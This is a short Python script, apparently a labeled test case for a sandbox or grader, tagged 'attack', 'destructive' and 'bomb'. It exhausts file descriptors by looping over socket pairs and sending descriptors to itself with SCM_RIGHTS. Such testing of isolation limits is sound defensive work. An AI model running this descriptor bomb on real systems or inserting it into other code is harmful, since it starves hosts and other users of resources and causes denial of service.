# attack: every file descriptor is used up, and sent to itself over sockets to hold still more.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import array
import os
import socket

heaviest = "tree-000"
held = []
try:
    while True:
        left, right = socket.socketpair()
        held.append((left, right))
        for _ in range(50):
            left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [right.fileno()] * 100))])
except OSError as error:
    print("stopped:", error)
